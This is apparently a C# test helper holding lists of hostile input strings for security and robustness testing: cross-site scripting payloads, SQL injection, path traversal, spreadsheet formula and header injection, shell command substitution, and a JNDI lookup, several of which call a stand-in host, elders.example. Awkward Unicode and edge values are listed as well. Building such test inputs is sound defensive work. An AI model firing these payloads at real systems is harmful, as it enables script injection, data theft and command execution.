namespace MeldrouteZL.TestKit;

/// <summary>Texts that attackers type. Each that tries to run a script would call <c>alert</c> or leave a handler in the page.</summary>
public static class HostileTexts
{
    /// <summary>Breaks out of text, attributes, addresses, scripts, styles, comments and drawings.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//elders.example/x.js></SCRIPT>", "<script/x>alert(2)</script >", "<scr<script>ipt>alert(3)</scr</script>ipt>",
        "</textarea><script>alert(4)</script>", "</title><script>alert(5)</script>", "</style><script>alert(6)</script>", "</option></select><script>alert(7)</script>",
        "--><script>alert(8)</script><!--", "]]><script>alert(9)</script>", "\"><script>alert(10)</script>", "'><script>alert(11)</script>",
        "<img src=x onerror=alert(12)>", "<img src=\"x\" onerror=\"alert(13)\">", "<img/src=x/onerror=alert(14)>", "<IMG SRC=javascript:alert(15)>",
        "<svg onload=alert(16)>", "<svg/onload=alert(17)//", "<svg><script>alert(18)</script></svg>", "<svg><animate onbegin=alert(19) attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(20)</script></svg>#x\"></use></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>", "<body onload=alert(22)>", "<iframe src=javascript:alert(23)>",
        "<iframe srcdoc=\"<script>alert(24)</script>\">", "<object data=javascript:alert(25)>", "<embed src=javascript:alert(26)>", "<link rel=stylesheet href=//elders.example/x.css>",
        "<style>*{background:url(//elders.example/lek)}</style>", "<style>@import '//elders.example/x.css';</style>", "<base href=//elders.example/>",
        "<meta http-equiv=refresh content=\"0;url=//elders.example\">", "<form action=//elders.example><input type=submit>", "<button formaction=javascript:alert(27)>x</button>",
        "<a href=javascript:alert(28)>klik</a>", "<a href=\"java\tscript:alert(29)\">klik</a>", "<a href=data:text/html,<script>alert(30)</script>>klik</a>",
        "<details open ontoggle=alert(31)>", "<input autofocus onfocus=alert(32)>", "<select autofocus onfocus=alert(33)>", "<video><source onerror=alert(34)>",
        "<audio src=x onerror=alert(35)>", "<marquee onstart=alert(36)>", "<div style=\"position:fixed;inset:0\" onmouseover=alert(37)>x</div>",
        "\" onmouseover=alert(38) x=\"", "' onfocus=alert(39) autofocus x='", "\" autofocus onfocus=alert(40) \"", "` onmouseover=alert(41) `", "javascript:alert(42)",
        "<template><script>alert(43)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(44)>\">", "<x onclick=alert(45)>klik</x>",
        "&lt;script&gt;alert(46)&lt;/script&gt;", "&#60;script&#62;alert(47)&#60;/script&#62;", "%3Cscript%3Ealert(48)%3C/script%3E", "\\u003cscript\\u003ealert(49)\\u003c/script\\u003e",
        "{{constructor.constructor('alert(50)')()}}", "${alert(51)}", "@(1+1) @Html.Raw(\"<script>alert(52)</script>\")", "＜script＞alert(53)＜/script＞", "<a ping=//elders.example href=/>x</a>",
    ];

    /// <summary>Breaks out of a statement, a pattern, a format or a path.</summary>
    public static IReadOnlyList<string> Statements { get; } =
    [
        "' OR '1'='1", "'; DROP TABLE meldroute.casefile; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(20)", "' UNION SELECT NULL, password_hash FROM meldroute.account --",
        "$$; SELECT 1; $$", "'||(SELECT version())||'", "\\'; SELECT 1; --", "%' AND 1=0 UNION ALL SELECT 1--", "'; SELECT set_config('meldroute.ctx', 'x', true); --",
        "%", "_", "%_%%__%", "\\", "\\\\%", "*", "(((((((((", "[a-z]+$", "{0}{1}{2}", "%s%n%x", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd",
        "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "a\r\nSet-Cookie: gezet=1", "a\r\n\r\n<script>alert(54)</script>", "$(touch /tmp/x)", "`id`", "${jndi:ldap://elders.example/x}",
    ];

    /// <summary>Letters that are not what they seem, do not end, or cannot be.</summary>
    public static IReadOnlyList<string> Letters { get; } =
    [
        "\u202Egnp.exe", "\u2066links\u2069\u200F", "Ѕаmіrа Воuаlі", "Z\u0335\u0321\u0322a\u0335lgo" + new string('\u0301', 60), "👩🏽‍🤝‍👨🏿🏳️‍🌈", "𝕊𝕒𝕞𝕚𝕣𝕒", "a\u200Bb\u200Cc\u200Dd\uFEFFe", "\u00AD\u00AD\u00AD", "ﷺ﷽",
        "İıſẞ", "\uFFFD\uFFFE\uFFFF", "\uD800", "\uDC00x", "x\uD83D", "\u0001\u0002\u0008\u001B[31m", "\u0085\u2028\u2029", "\u0000", "\t\n\v\f\r", "٣٤٥", "１２３",
    ];

    /// <summary>What is no number, no date, no choice and no end.</summary>
    public static IReadOnlyList<string> Values { get; } =
    [
        "-1", "0", "2147483648", "-9223372036854775809", "99999999999999999999999999", "1e309", "NaN", "Infinity", "0x7FFFFFFF", "1,5", "1.5", "true", "null", "undefined", "[]", "{}",
        "0001-01-01", "9999-12-31", "2026-02-30", "-0001-01-01", "10000-01-01", "31-12-2026", "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000001}",
        new string('9', 500), new string('A', 5_000), new string('é', 9_000), string.Concat(Enumerable.Repeat("<b>", 3_000)),
    ];

    public static IReadOnlyList<string> All { get; } = [.. Markup, .. Statements, .. Letters, .. Values];
}
